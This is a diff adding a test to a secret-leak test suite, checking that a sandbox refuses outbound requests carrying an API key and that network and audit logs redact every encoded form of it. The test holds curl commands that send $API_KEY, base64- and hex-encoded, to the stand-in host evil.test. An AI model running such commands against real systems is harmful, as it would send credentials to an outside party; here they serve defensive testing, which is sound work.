@@ -136,6 +136,23 @@ describe('secrets leave by no other door', () => {
     assertNoLeak(r.stdout, 'exec output');
   });
 
+  test('a request that carries the value out is refused, and its record shows no form of it', async () => {
+    const script = [
+      'curl -s -m 5 "http://evil.test/collect/$(printf %s "$API_KEY" | base64 -w0)?v=$API_KEY"',
+      'curl -s -m 5 "http://evil.test/hex?h=$(printf %s "$API_KEY" | od -An -tx1 | tr -d " \\n")"',
+      'true',
+    ].join('; ');
+    assert.equal((await sh(t, 'encodings', script)).exitCode, 0);
+    const events = await waitFor('the refusals on record', async () => {
+      const { items } = (await t.api('GET', '/api/orgs/default/environments/encodings/network?denied=true')).body as { items: { host: string; path: string | null }[] };
+      return items.filter((e) => e.host === 'evil.test').length >= 2 ? items : null;
+    });
+    const seen = [JSON.stringify(events), JSON.stringify((await t.api('GET', '/api/orgs/default/audit?action=network.denied')).body)].join('\n');
+    assert.match(seen, /\/collect\/\[secret:API_KEY\]\?v=\[secret:API_KEY\]/);
+    assert.match(seen, /\/hex\?h=\[secret:API_KEY\]/);
+    assertNoLeak(seen, 'network events');
+  });
+
   test('a change that carries the value encoded (base64, hex, reversed, in a binary file) is not pushed, and says which secret only', async () => {
     const command = [
       'printf %s "$API_KEY" | base64 > notes-base64.txt',
